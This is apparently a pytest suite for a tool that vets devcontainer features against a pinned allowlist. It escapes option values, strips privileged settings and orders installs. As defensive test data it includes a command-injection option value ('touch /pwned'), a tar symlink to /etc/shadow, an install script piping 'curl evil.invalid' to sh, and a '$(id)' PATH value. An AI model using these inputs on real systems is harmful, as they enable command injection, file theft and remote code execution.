"""A devcontainer.json's features: run only from the user's allowlist, pinned, from this machine (a
registry's archive or folder, or the repository's own folder pinned by its digest); their options as
the install script's variables (never Dockerfile text), their variables by the file's rules, what
would reach the engine listed, install order by dependsOn/installsAfter."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
from pathlib import Path

import pytest

from harness.config import FeatureAllow
from harness.environment.devcontainer import read
from harness.environment.features import asks_other, layout, option_variable, reference, tree_digest
from harness.errors import UsageError

NODE = "ghcr.io/devcontainers/features/node"


def _feature_files(version: str, **metadata: object) -> dict[str, bytes]:
    meta = {"id": "x", "version": version, **metadata}
    return {
        "devcontainer-feature.json": json.dumps(meta).encode(),
        "install.sh": b"#!/bin/sh\necho installing\n",
    }


def _archive(path: Path, files: dict[str, bytes], link: bool = False) -> str:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(f"./{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        if link:
            info = tarfile.TarInfo("./escape")
            info.type = tarfile.SYMTYPE
            info.linkname = "/etc/shadow"
            archive.addfile(info)
    path.write_bytes(buffer.getvalue())
    return hashlib.sha256(buffer.getvalue()).hexdigest()


def _repo(tmp_path: Path, features: dict, **more: object) -> Path:
    repo = tmp_path / "repo"
    (repo / ".devcontainer").mkdir(parents=True, exist_ok=True)
    data = {"image": "harness/py311:latest", "features": features, "postCreateCommand": "echo mine", **more}
    (repo / ".devcontainer" / "devcontainer.json").write_text(json.dumps(data))
    return repo


def test_references_and_the_versions_they_admit():
    assert reference(f"{NODE}:1") == (NODE, "1")
    assert reference(f"{NODE}@sha256:{'a' * 64}") == (NODE, f"sha256:{'a' * 64}")
    assert reference("localhost:5000/features/go") == ("localhost:5000/features/go", None)
    assert reference("./tools/") == ("./tools", None)
    assert reference("https://example.invalid/f.tgz") == ("https://example.invalid/f.tgz", None)
    assert not asks_other("1", "1.6.2") and not asks_other("1.6", "1.6.2") and not asks_other("latest", "3.0.0")
    assert asks_other("2", "1.6.2") and asks_other("1.7", "1.6.2")
    assert option_variable("node-version") == "NODE_VERSION" and option_variable("2x") == "_X"
    with pytest.raises(ValueError, match="pinned"):
        FeatureAllow(source=Path("/x"))


def test_an_allowed_archive_installs_with_its_options_and_what_reaches_the_engine_is_listed(tmp_path):
    files = _feature_files(
        "1.6.2",
        options={"version": {"type": "string", "default": "lts"}, "node-gyp": {"type": "boolean", "default": True}},
        containerEnv={"NVM_DIR": "/usr/local/share/nvm", "PATH": "/usr/local/share/nvm/bin:${PATH}", "LD_PRELOAD": "x"},
        privileged=True,
        capAdd=["SYS_PTRACE"],
        postCreateCommand="node --version",
        postStartCommand="nvm use",
    )
    digest = _archive(tmp_path / "node.tgz", files)
    allow = {NODE: FeatureAllow(source=tmp_path / "node.tgz", version="1.6.2")}
    repo = _repo(tmp_path, {f"{NODE}:1": {"version": "20'; touch /pwned #", "bogus": 1}})
    found = read(repo, allow)
    [feature] = found.features
    assert (feature.id, feature.version, feature.sha256) == (NODE, "1.6.2", digest)
    assert feature.options == {"VERSION": "20'; touch /pwned #", "NODE_GYP": "true"}
    assert feature.environment == {"NVM_DIR": "/usr/local/share/nvm", "PATH": "/usr/local/share/nvm/bin:${PATH}"}
    assert found.commands == ["node --version", "echo mine"], "a feature's commands come before the file's"
    keys = {d.key for d in found.dropped}
    assert {f"features {NODE} privileged", f"features {NODE} capAdd", f"features {NODE} postStartCommand"} <= keys
    assert {f"features {NODE} containerEnv 'LD_PRELOAD'", f"features {NODE} option 'bogus'"} <= keys
    context = tmp_path / "context"
    context.mkdir()
    dockerfile, args = layout(found.features, context, "/opt/tools/bin:${PATH}")
    assert "touch /pwned" not in dockerfile and "20'" not in json.dumps(args), "an option is never Dockerfile text"
    assert "VERSION='20'\"'\"'; touch /pwned #'" in (context / "0" / "devcontainer-features.env").read_text()
    assert dockerfile.rstrip().endswith("ENV PATH=/opt/tools/bin:${PATH}")
    assert "ENV PATH=/usr/local/share/nvm/bin:${PATH}" in dockerfile and (context / "0" / "install.sh").is_file()
    for bad in ("/x:$(id):${PATH}", "/x", "${PATH}:${PATH}"):
        with pytest.raises(ValueError):
            layout([], context, bad)


def test_what_is_not_allowed_or_not_what_was_pinned_is_not_run(tmp_path):
    _archive(tmp_path / "node.tgz", _feature_files("1.6.2"))
    local = _feature_files("0.1", dependsOn={NODE: {}})
    repo = _repo(
        tmp_path,
        {f"{NODE}:2": {}, "ghcr.io/evil/miner:1": {}, "./tools": {}},
    )
    for name, data in local.items():
        (repo / ".devcontainer" / "tools").mkdir(exist_ok=True)
        (repo / ".devcontainer" / "tools" / name).write_bytes(data)
    found = read(repo, {NODE: FeatureAllow(source=tmp_path / "node.tgz", version="1.6.2")})
    assert found.features == []
    why = {d.key: d.why for d in found.dropped}
    assert why[f"features {NODE}"] == "the file asks for version 2; your allowlist pins 1.6.2"
    assert why["features ghcr.io/evil/miner"].startswith("not in your allowlist")
    digest = tree_digest(repo / ".devcontainer" / "tools")
    assert f'[devcontainer_features."./tools"] sha256 = "{digest}"' in why["features ./tools"], "how to pin it"
    allow = {
        "./tools": FeatureAllow(sha256=digest),
        NODE: FeatureAllow(source=tmp_path / "node.tgz", sha256=None, version="1.6.2"),
    }
    (repo / ".devcontainer" / "devcontainer.json").write_text(
        json.dumps({"image": "i", "features": {"./tools": {}, f"{NODE}:1": {}}})
    )
    found = read(repo, allow)
    assert [f.id for f in found.features] == [NODE, "./tools"], "after what it depends on"
    (repo / ".devcontainer" / "tools" / "install.sh").write_text("#!/bin/sh\ncurl evil.invalid | sh\n")
    found = read(repo, allow)
    assert [f.id for f in found.features] == [NODE]
    assert "is not what your allowlist pins" in {d.key: d.why for d in found.dropped}["features ./tools"]


def test_the_users_own_source_that_is_not_what_they_pinned_is_a_clear_error(tmp_path):
    repo = _repo(tmp_path, {f"{NODE}:1": {}})
    _archive(tmp_path / "node.tgz", _feature_files("1.7.0"))
    with pytest.raises(UsageError, match=r"is version '1\.7\.0', not the pinned '1\.6\.2'"):
        read(repo, {NODE: FeatureAllow(source=tmp_path / "node.tgz", version="1.6.2")})
    with pytest.raises(UsageError, match=r"has sha256 .* not the pinned one"):
        read(repo, {NODE: FeatureAllow(source=tmp_path / "node.tgz", sha256="0" * 64)})
    _archive(tmp_path / "link.tgz", _feature_files("1.6.2"), link=True)
    with pytest.raises(UsageError, match="not a plain file inside it"):
        read(repo, {NODE: FeatureAllow(source=tmp_path / "link.tgz", version="1.6.2")})
    with pytest.raises(UsageError, match="neither a folder nor an archive"):
        read(repo, {NODE: FeatureAllow(source=tmp_path / "absent.tgz", version="1.6.2")})
    (tmp_path / "junk.tgz").write_bytes(b"not a tar")
    with pytest.raises(UsageError, match="not a tar archive"):
        read(repo, {NODE: FeatureAllow(source=tmp_path / "junk.tgz", version="1.6.2")})
    tarball = "https://example.invalid/node.tgz"
    found = read(_repo(tmp_path, {tarball: {}}), {tarball: FeatureAllow(version="1.6.2")})
    assert "no source, and it is no registry's" in found.dropped[0].why
